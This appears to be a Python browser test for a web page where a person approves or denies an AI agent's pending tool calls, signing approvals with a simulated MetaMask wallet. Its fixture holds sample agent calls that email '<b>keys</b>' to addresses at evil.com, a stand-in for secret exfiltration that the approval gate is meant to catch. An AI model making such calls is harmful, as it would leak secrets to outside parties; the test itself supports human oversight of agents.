"""The page of agents' questions in headless Chromium, with a wallet in it that signs as MetaMask does."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
import uvicorn
from eth_account import Account as Wallet
from eth_account.messages import encode_typed_data
from fastapi import FastAPI
from playwright.sync_api import Browser, expect

from agents_world import APPROVER
from tessera.agents.approvals import Approval, Approvals, Call
from tessera.web.questions import AgentQuestions, mount_questions
from web_browser import chromium, visiting

pytestmark = pytest.mark.slow
CALLS = [
    Call("send_email", {"recipients": [f"x{n}@evil.com"], "body": "<b>keys</b>"}, nonce=f"{n}1" * 32) for n in (1, 2)
]
WALLET = "window.ethereum = { request: ({method, params}) => window.wallet(method, JSON.stringify(params || [])) }"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@contextmanager
def served() -> Iterator[tuple[str, Approvals]]:
    approvals = Approvals(APPROVER.account)
    for call in CALLS:
        approvals.request(call, {"rules": ["recipient_not_named"], "to": {"x": "outside"}, "run": "ab12"})
    app = FastAPI()
    mount_questions(app, [AgentQuestions("clerk", approvals)])
    server = uvicorn.Server(uvicorn.Config(app, port=0, log_level="critical", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run)
    thread.start()
    try:
        while not server.started:
            assert thread.is_alive()
            time.sleep(0.01)
        yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}", approvals
    finally:
        server.should_exit = True
        thread.join(20)
        approvals.close()


def sign(method: str, params: str) -> object:
    if method == "eth_requestAccounts":
        return [APPROVER.account.lower()]
    typed = json.loads(json.loads(params)[1])
    return "0x" + Wallet.sign_message(encode_typed_data(full_message=typed), APPROVER.secret).signature.hex()


def test_a_person_denies_one_and_allows_another_with_the_wallet(browser: Browser) -> None:
    with served() as (url, approvals), visiting(browser, url) as visit:
        visit.page.expose_function("wallet", sign)
        visit.page.add_init_script(WALLET)
        visit.page.goto(url)
        questions = visit.page.get_by_test_id("question")
        expect(questions).to_have_count(2)
        expect(questions.first).to_contain_text("<b>keys</b>")
        questions.first.get_by_role("button", name="Deny").click()
        expect(questions).to_have_count(1)
        questions.first.get_by_role("button", name="Allow with wallet").click()
        expect(visit.page.get_by_text("Allowed, once.")).to_be_visible()
        answers = [approvals.answer(call.digest) for call in CALLS]
        assert sorted(isinstance(answer, Approval) for answer in answers) == [False, True]
        assert "denied" in answers
        assert visit.problems == []


@pytest.mark.parametrize(("width", "scheme"), [(1280, "dark"), (390, "light")])
def test_without_a_wallet_it_says_what_to_do_and_fits(browser: Browser, width: int, scheme: str) -> None:
    with served() as (url, approvals), visiting(browser, url, width=width, scheme=scheme) as visit:
        visit.page.get_by_role("button", name="Allow with wallet").first.click()
        expect(visit.page.get_by_role("status")).to_contain_text("tessera agent approve")
        assert visit.page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        assert approvals.answer(CALLS[0].digest) == "waiting"
